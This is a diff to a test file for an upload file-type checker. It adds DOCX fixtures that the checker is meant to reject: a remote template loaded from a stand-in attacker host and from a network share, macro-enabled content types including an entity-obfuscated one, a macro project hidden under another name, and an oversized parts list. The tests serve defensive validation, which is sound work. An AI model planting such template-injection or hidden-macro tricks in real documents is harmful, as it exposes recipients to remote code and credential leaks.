@@ -29,6 +29,26 @@ from tests.files.examples import (
 ZIPPED = docx({"evil.class": "x"})
 
 
+REMOTE = (
+    '<Relationships><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate"'
+    ' Target="{}" TargetMode="External"/></Relationships>'
+)
+WITH_MACROS = "application/vnd.ms-word.document.macro{}.main+xml"
+
+
+def template_docx(target, encoding="utf-8"):
+    return docx(**{"word/_rels/settings.xml.rels": REMOTE.format(target).encode(encoding)})
+
+
+def typed_docx(content_type):
+    types = f'<Types><Override PartName="/word/document.xml" ContentType="{content_type}"/></Types>'
+    return docx({"[Content_Types].xml": types, "word/document.xml": "<w:document/>"})
+
+
+def long_kinds_docx(count):
+    return docx({"[Content_Types].xml": "<Types/>" + " " * count, "word/document.xml": "<w:document/>"})
+
+
 def told(content, name):
     kind, name = identify(io.BytesIO(content), len(content), name)
     return kind.label, name
@@ -61,6 +81,8 @@ def test_each_kind_is_taken(name, content):
             compound([*MAIL_STREAMS, "__properties_version1.0"], padding=31_000),
             "MSG",
         ),
+        ("kinds of a long report.docx", long_kinds_docx(3_900_000), "DOCX"),
+        ("template on a drive.docx", template_docx("file:///C:\\Templates\\Letter.dotx"), "DOCX"),
         ("with picture.docx", docx(**{"word/media/image1.png": PNG.decode("latin-1")}), "DOCX"),
     ],
     ids=lambda value: value if isinstance(value, str) else "",
@@ -102,7 +124,22 @@ def zip64_docx():
     return DOCX[:at] + b"PK\6\7" + bytes(16) + DOCX[at:]
 
 
+HIDDEN_MACROS = docx(
+    **{
+        "word/a.bin": "x",
+        "word/_rels/document.xml.rels": '<Relationship Type="http://schemas.microsoft.com/office/2006/relationships/vbaProject"'
+        ' Target="a.bin"/>',
+    }
+)
 BAD = [
+    ("macros by type", typed_docx(WITH_MACROS.format("Enabled")), "a.docx", "macros"),
+    ("macros by type, spelled out", typed_docx(WITH_MACROS.format("&#69;nabled")), "a.docx", "macros"),
+    ("macros under another name", HIDDEN_MACROS, "a.docx", "macros"),
+    ("remote template", template_docx("http://evil.example/x.dotm"), "a.docx", "template"),
+    ("remote template, odd sign", template_docx("http://evil.example/>x.dotm"), "a.docx", "template"),
+    ("remote template, UTF-16", template_docx("http://evil.example/x.dotm", "utf-16"), "a.docx", "template"),
+    ("template on a share", template_docx("file:///\\\\host\\x.dotm"), "a.docx", "template"),
+    ("kinds without end", long_kinds_docx(4_000_000), "a.docx", "more parts"),
     ("empty", b"", "a.pdf", "it is empty"),
     ("text", b"hello", "a.txt", "of no kind we keep"),
     ("page", b"<!doctype html><script>alert(1)</script>", "a.html", "of no kind we keep"),
